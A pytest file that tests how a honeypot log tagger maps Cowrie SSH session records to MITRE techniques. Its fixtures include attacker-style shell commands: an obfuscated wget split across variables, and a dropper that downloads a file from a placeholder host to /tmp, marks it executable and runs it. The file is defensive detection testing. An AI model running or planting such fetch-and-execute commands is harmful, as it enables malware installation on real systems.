"""The direct mode: what one run knows of a session from the lines, the run and the database before it."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from decnet.cli.tagging import open_direct
from decnet.workers.logs import LogRun
from tests.databases import rows

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from decnet.workers.direct import DirectRun


@pytest.fixture
def direct(tmp_path: Path) -> Iterator[DirectRun]:
    with open_direct(data_dir=tmp_path / "data") as run:
        yield run


def record(eventid: str, second: int, **own: object) -> str:
    shared = {
        "eventid": f"cowrie.{eventid}",
        "timestamp": f"2026-11-18T12:{second // 60:02}:{second % 60:02}.000000Z",
        "session": "0123456789ab",
        "src_ip": "198.51.100.7",
        "protocol": "ssh",
        "sensor": "svr04",
    }
    return json.dumps(shared | own) + "\n"


def typed(text: str, second: int) -> str:
    return record("command.input", second, input=text)


def techniques(direct: DirectRun) -> list[tuple[Any, ...]]:
    """Source kind and technique of each tag, in the order of the tags."""
    identifier = "coalesce(nullif(sub_technique_id, ''), technique_id)"
    sql = f"SELECT source_kind, {identifier} FROM tag JOIN ttp ON ttp.id = ttp_id ORDER BY observed_at, tag.uuid"
    return rows(direct.database, sql)


SETTING, USING = typed("a=wg; b=et", 1), typed("$a$b http://203.0.113.7/x", 2)


def test_a_variable_of_an_earlier_line_is_known(direct: DirectRun, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_text(SETTING + USING)
    direct.read(str(log))
    assert ("command", "T1105") in techniques(direct)


def test_a_variable_of_an_earlier_run_is_known(tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    for text in (SETTING, SETTING + USING):
        log.write_text(text)
        with open_direct(data_dir=tmp_path / "data") as run:
            run.read(str(log))
            found = techniques(run)
    assert ("command", "T1105") in found


def test_variables_of_another_session_are_not(direct: DirectRun, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_text(SETTING.replace("0123456789ab", "ba9876543210") + USING)
    direct.read(str(log))
    assert ("command", "T1105") not in techniques(direct)


DROPPER = [typed("wget http://203.0.113.7/x -O /tmp/x", 1), typed("chmod +x /tmp/x", 2), typed("/tmp/x", 3)]


def test_session_rules_wait_for_the_end_of_the_session(direct: DirectRun, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_text("".join(DROPPER))
    direct.read(str(log))
    assert ("session", "T1059.004") not in techniques(direct)
    log.write_text("".join(DROPPER) + record("session.closed", 9, duration_ms=9_000))
    direct.read(str(log))
    assert techniques(direct).count(("session", "T1059.004")) == 1


def test_what_comes_after_the_end_is_seen_and_counted_once(direct: DirectRun, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_text("".join(DROPPER[:2]) + record("session.closed", 2) + DROPPER[2] + typed("id", 4))
    direct.read(str(log))
    assert techniques(direct).count(("session", "T1059.004")) == 1
    assert direct.read(str(log), again=True).new_tags == 0


def test_a_session_tag_stands_at_the_start_of_its_session(direct: DirectRun, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_text(record("session.connect", 0) + "".join(DROPPER) + record("session.closed", 9))
    direct.read(str(log))
    sql = "SELECT tag.observed_at - started_at, source_id FROM tag JOIN session ON session.id = session_id"
    ((difference, source_id),) = rows(direct.database, f"{sql} WHERE source_kind = 'session'")
    assert difference == 0
    assert source_id.startswith("session:")


def test_the_size_of_batches_changes_no_tag(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(LogRun, "chunk_bytes", 256 << 10)
    session = record("session.connect", 0) + SETTING + USING + "".join(DROPPER) + record("session.closed", 9)
    others = [typed("echo " + "x" * 400, 1).replace("0123456789ab", f"{number:012x}") for number in range(2_000)]
    spread = "".join(line + "\n" + "".join(others[place::7]) for place, line in enumerate(session.splitlines()))
    found = []
    for name, content in (("one batch", session), ("many batches", spread)):
        log = tmp_path / f"{name}.json"
        log.write_text(content)
        with open_direct(data_dir=tmp_path / name) as run:
            run.read(str(log))
            found.append(techniques(run))
    assert found[0] == found[1]


def test_an_overlong_first_line_is_reported_and_the_rest_is_read(direct: DirectRun, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_text("x" * 3_000_000 + "\n" + USING)
    report = direct.read(str(log))
    assert (report.refused_total, report.new_events) == (1, 1)


def test_a_log_of_one_overlong_line_without_an_end_is_no_silence(direct: DirectRun, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_text("x" * 3_000_000)
    assert direct.read(str(log)).refused_total == 1
